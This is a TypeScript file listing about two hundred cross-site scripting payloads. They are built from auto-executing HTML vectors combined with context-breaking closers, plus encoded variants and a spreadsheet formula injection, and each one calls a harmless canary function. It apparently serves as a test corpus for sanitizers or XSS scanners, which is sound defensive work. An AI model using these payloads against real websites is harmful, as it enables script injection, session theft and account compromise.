/** What every payload calls when it runs, and the name of what it leaves in a page when it is read as markup. */
export const FIRED = "zzfired";

/** Markup that runs by itself. */
export const VECTORS: readonly string[] = [
  `<script>${FIRED}()</script>`,
  `<ScRiPt src=data:,${FIRED}()></ScRiPt>`,
  `<img src=x onerror=${FIRED}()>`,
  `<svg onload=${FIRED}()>`,
  `<svg><script>${FIRED}()</script></svg>`,
  `<svg><animate onbegin=${FIRED}() attributeName=x dur=1s>`,
  `<body onload=${FIRED}()>`,
  `<details open ontoggle=${FIRED}()>`,
  `<video><source onerror=${FIRED}()></video>`,
  `<input autofocus onfocus=${FIRED}()>`,
  `<iframe srcdoc="<script>parent.${FIRED}()</script>"></iframe>`,
  `<iframe src=javascript:parent.${FIRED}()></iframe>`,
  `<object data=javascript:${FIRED}()></object>`,
  `<a href=javascript:${FIRED}() autofocus>x</a>`,
  `<form action=javascript:${FIRED}()><button>x</button></form>`,
  `<math><mi xlink:href=javascript:${FIRED}()>x</mi></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${FIRED}()>">`,
  `<template shadowrootmode=open><img src=x onerror=${FIRED}()></template>`,
  `<style onload=${FIRED}()></style>`,
  `<link rel=stylesheet href=data:, onload=${FIRED}()>`,
  `<base href=javascript:${FIRED}()//>`,
  `<meta http-equiv=refresh content="0;url=javascript:${FIRED}()">`,
  `<x-${FIRED} onanimationstart=${FIRED}() style=animation:a>`,
  `<button popovertarget=x onclick=${FIRED}()>x</button>`,
];

/** What has to be closed first where a text stands: an attribute, an element, a comment, a section of XML. */
export const CLOSERS: readonly string[] = [
  "",
  `">`,
  `'>`,
  "</script>",
  "</textarea></title></select>",
  `-->`,
  `]]>`,
  "</style></noscript>",
];

const OTHERS = [
  `javascript:${FIRED}()`,
  `"; ${FIRED}(); "`,
  `" onmouseover=${FIRED}() autofocus onfocus=${FIRED}() x="`,
  `\u2028${FIRED}()\u2029`,
  `\\u003cimg src=x onerror=${FIRED}()\\u003e`,
  `&lt;img src=x onerror=${FIRED}()&gt;`,
  `&#60;script&#62;${FIRED}()&#60;/script&#62;`,
  `=HYPERLINK("javascript:${FIRED}()","x")`,
];

/** Two hundred texts that run, where a page takes them for more than text. */
export const PAYLOADS: readonly string[] = [
  ...CLOSERS.flatMap((closer) => VECTORS.map((vector) => closer + vector)),
  ...OTHERS,
];
